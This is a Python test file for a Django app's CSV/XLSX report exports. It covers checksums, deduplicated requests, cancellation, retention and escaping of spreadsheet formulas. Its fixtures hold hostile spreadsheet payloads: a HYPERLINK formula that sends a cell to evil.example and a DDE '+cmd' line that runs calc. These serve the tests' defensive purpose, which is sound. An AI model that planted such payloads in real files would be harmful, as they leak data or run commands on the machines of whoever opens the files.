"""Exports: filtered rows streamed to CSV and XLSX with row count and checksum, formula-safe
cells, deduplicated requests, cancellation (queued and mid-run), download, retention."""

import csv
import hashlib
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from unittest import mock

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from messaging.pipeline.models import Message
from messaging.reports import exports, statuses
from messaging.reports.models import ExportJob, ExportStatus
from tests.messaging.reports.pipeline_steps import dispatch, earlier_today, send

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def sent(account, sending_setup):
    when = earlier_today(account, timedelta(minutes=30))
    uk = send(account, when, 5, uk=True)
    send(account, when, 2, uk=False)
    dispatch(uk, when, refuse=False)
    Message.objects.filter(batch=uk, index=1).update(custom='=HYPERLINK("https://evil.example/?"&A1)')
    return uk


def _queue(account, query, fmt="csv"):
    with mock.patch("messaging.reports.exports.transaction.on_commit"):
        return exports.request_export(account, query=query, fmt=fmt)


def test_csv_export_of_a_filtered_report(account, sent, user_client):
    job, created = _queue(account, {"iso": "GB"})
    assert created and job.status == ExportStatus.QUEUED
    assert exports.run(job.pk) == 5
    job.refresh_from_db()
    assert (job.status, job.rows, job.expected_rows) == (ExportStatus.DONE, 5, 5)
    data = Path(job.file.path).read_bytes()
    assert job.checksum == hashlib.sha256(data).hexdigest() and job.size == len(data)
    rows = list(csv.reader(io.StringIO(data.decode())))
    assert rows[0] == list(exports.HEADER) and len(rows) == 6
    assert {r[3] for r in rows[1:]} == {"GB"}
    # Each row carries its status's explanation from the one status table.
    assert all(r[-1] == statuses.explain(r[8], r[9]) and r[-1] for r in rows[1:])
    assert rows[1][12].startswith("'=HYPERLINK")  # a formula is text in every spreadsheet
    assert job.expires_at > timezone.now() + timedelta(days=6)
    res = user_client.get(reverse("reports:export_download", args=[job.uuid]))
    assert res.status_code == 200 and res["X-Checksum-SHA256"] == job.checksum
    assert b"".join(res.streaming_content) == data
    page = user_client.get(reverse("reports:exports")).content.decode()
    assert job.checksum in page and "Download" in page


def test_xlsx_export(account, sent):
    job, _ = _queue(account, {}, fmt="xlsx")
    assert exports.run(job.pk) == 7
    job.refresh_from_db()
    sheet = load_workbook(job.file.path, read_only=True)["Messages"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.HEADER and len(rows) == 8
    assert any(str(r[12]).startswith("'=HYPERLINK") for r in rows[1:])
    assert job.checksum == hashlib.sha256(Path(job.file.path).read_bytes()).hexdigest()


def test_the_same_request_while_one_runs_reuses_it(account, sent):
    first, created = _queue(account, {"iso": "GB", "sender": "AcmeUK"})
    again, created_again = _queue(account, {"sender": "AcmeUK", "iso": "GB"})
    assert created and not created_again and again.pk == first.pk
    other, created_other = _queue(account, {"iso": "GB", "sender": "AcmeUK"}, fmt="xlsx")
    assert created_other and other.pk != first.pk
    exports.run(first.pk)
    after, created_after = _queue(account, {"iso": "GB", "sender": "AcmeUK"})
    assert created_after and after.pk != first.pk  # a finished export is not reused
    assert exports.run(first.pk) is None  # a job runs once


def test_bad_filters_are_refused_before_queueing(account, sent):
    from portal.core.errors import ValidationFailed

    with pytest.raises(ValidationFailed):
        _queue(account, {"campaign": "not-a-uuid"})
    with pytest.raises(ValidationFailed):
        _queue(account, {}, fmt="pdf")
    assert not ExportJob.objects.exists()


def test_cancel_a_queued_and_a_running_export(account, sent, user_client):
    queued, _ = _queue(account, {})
    user_client.post(reverse("reports:export_cancel", args=[queued.uuid]))
    assert exports.run(queued.pk) is None
    queued.refresh_from_db()
    assert queued.status == ExportStatus.CANCELLED and not queued.file

    running, _ = _queue(account, {"iso": "GB"})
    real_blocks = exports._blocks

    def cancelled_in_the_second_block(job, fmt, write, *plan):
        for i, rows in enumerate(real_blocks(job, fmt, write, *plan)):
            if i == 1:
                exports.cancel(job)
            yield rows

    with (
        mock.patch.object(exports, "PROGRESS_EVERY", 2),
        mock.patch.object(exports, "_blocks", cancelled_in_the_second_block),
    ):
        assert exports.run(running.pk) is None
    running.refresh_from_db()
    # It stops at the next progress update: the second block (rows 3-4) was written when it noticed.
    assert running.status == ExportStatus.CANCELLED and running.rows == 4 and not running.file


NASTY = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-12.50",
    "+447400123456",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    'say "hi", then\nleave',
    "back\\slash\\\\two",
    "<b>&amp;</b>",
    "bell\x07 and tab\there",
    "naïve ☃",
    "",
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_sql_formatting_matches_the_python_rules_cell_by_cell(account, sent, fmt):
    # The same rows through COPY (PostgreSQL) and through rows_of + safe_cell (other databases).
    messages = list(Message.objects.filter(account=account).order_by("submitted_at", "id"))
    for message, custom in zip(messages, NASTY, strict=False):
        Message.objects.filter(pk=message.pk).update(custom=custom)
    job, _ = _queue(account, {}, fmt=fmt)
    job = ExportJob.objects.select_related("account").get(pk=job.pk)
    expected = [[exports.safe_cell(v) for v in row] for row in exports.rows_of(job)]
    assert exports.run(job.pk) == len(messages) == 7
    job.refresh_from_db()
    path = Path(job.file.path)
    assert job.checksum == hashlib.sha256(path.read_bytes()).hexdigest() and job.size == path.stat().st_size
    if fmt == "csv":
        got = list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))
        assert got[0] == list(exports.HEADER)
        assert got[1:] == [[str(v) for v in row] for row in expected]
    else:
        sheet = load_workbook(path, read_only=True)["Messages"]
        got = list(sheet.iter_rows(values_only=True))
        assert got[0] == exports.HEADER
        for row, want in zip(got[1:], expected, strict=True):
            # XML 1.0 cannot hold the bell: it is dropped; numbers come back as numbers.
            want = [v.replace("\x07", "") if isinstance(v, str) else v for v in want]
            text = [("" if v is None else v) for i, v in enumerate(row) if i not in (10, 11)]
            assert text == [v for i, v in enumerate(want) if i not in (10, 11)]
            assert row[10] == want[10] and Decimal(str(row[11])) == want[11]


def test_page_request_and_retention(account, sent, user_client, django_capture_on_commit_callbacks):
    with mock.patch("messaging.reports.exports.current_app") as app:
        with django_capture_on_commit_callbacks(execute=True):
            res = user_client.post(reverse("reports:export_create"), {"format": "csv", "iso": "GB", "email": "1"})
        assert res.status_code == 302 and res["Location"] == reverse("reports:exports")
        job = ExportJob.objects.get()
        app.tasks[exports.RUN_TASK].delay.assert_called_once_with(job.pk)
    exports.run(job.pk)
    from django.core import mail

    assert "5 rows" in mail.outbox[0].body and reverse("reports:exports") in mail.outbox[0].body
    job.refresh_from_db()
    path = job.file.path
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert exports.purge_expired() == 1
    assert not ExportJob.objects.exists()
    assert not Path(path).exists()
